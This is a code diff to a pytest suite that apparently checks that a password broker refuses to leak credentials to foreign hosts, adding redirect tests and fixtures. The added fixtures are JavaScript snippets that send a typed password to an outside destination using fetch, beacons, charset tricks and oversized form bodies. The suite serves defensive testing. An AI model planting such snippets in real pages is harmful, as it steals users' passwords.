@@ -8,7 +8,7 @@ from contextlib import asynccontextmanager
 import pytest
 import yaml
 from replicas import pages
-from replicas.kite import PASSWORD, SEED, Kite, Variant
+from replicas.kite import KEY, PASSWORD, SEED, Kite, Variant
 from replicas.web import Said, Site, page, redirect
 from support.clock import FastClock
 from support.leaks import leaks
@@ -64,6 +64,13 @@ AS_IT_LEAVES = {
     "xhr": on_submit("const x = new XMLHttpRequest(); x.open('POST', to); x.send(pw());"),
     "beacon": on_submit("navigator.sendBeacon(to, new URLSearchParams({p: pw()}));"),
     "a blob": on_submit("navigator.sendBeacon(to, new Blob([pw()])); fetch(to + '?' + pw());"),
+    "one word with another": on_submit("fetch(to, {method: 'POST', body: 'u' + pw() + '123456'});"),
+    "another alphabet": on_submit("form.acceptCharset = 'iso-8859-1'; form.action = to + '/x';"),
+    "a large body": on_submit(
+        "form.append(Object.assign(document.createElement('textarea'),"
+        "{name: 'a', value: 'x'.repeat(1100000)})); form.append(form.querySelector('table'));"
+        "form.action = to + '/x';"
+    ),
     "multipart": on_submit("fetch(to, {method: 'POST', body: new FormData(form)});"),
     "a picture": on_submit("new Image().src = to + '/i.png?p=' + encodeURIComponent(pw());"),
     "a path": on_submit("new Image().src = to + '/' + encodeURIComponent(pw());"),
@@ -214,6 +221,38 @@ async def test_a_host_that_the_account_names_may_be_told(visit):
         outcome = await visit(kite, login_hosts=[THERE])
         assert outcome.outcome == "issued", outcome.error
         assert kite.passwords == [PASSWORD]
+
+
+async def test_a_hop_on_the_way_to_the_login_page_is_nobodys(visit):
+    """A host that the broker's redirects pass is not where they end."""
+    async with broker(visit.clock, BEFORE_TYPING["action"], mood={"other_port"}) as (
+        kite,
+        stranger,
+    ):
+        there, kite.other = kite.other.origin, stranger
+
+        async def pass_on(asked):
+            return redirect(f"{there}{asked.path}?sess_id={asked.query['sess_id']}&api_key={KEY}")
+
+        stranger.serves = pass_on
+        outcome = await visit(kite)
+        assert_refused(outcome)
+        assert (stranger.told, kite.passwords) == ([], [])
+
+
+async def test_a_redirect_after_the_user_id_leads_to_nobody_of_the_brokers(visit):
+    first = "<form method=post action=/next><label>User ID <input name=u></label><button>Next</button></form>"
+    async with broker(visit.clock, first) as (kite, stranger):
+
+        async def answer(asked):
+            if asked.path == "/next":
+                return redirect(f"{stranger.origin}/login", 303)
+            return await kite._web(asked)
+
+        kite.web.answer = answer
+        outcome = await visit(kite)
+        assert_refused(outcome)
+        assert (stranger.told, kite.passwords) == ([], [])
 
 
 async def test_a_login_page_to_which_the_broker_redirects_is_its_own(visit):
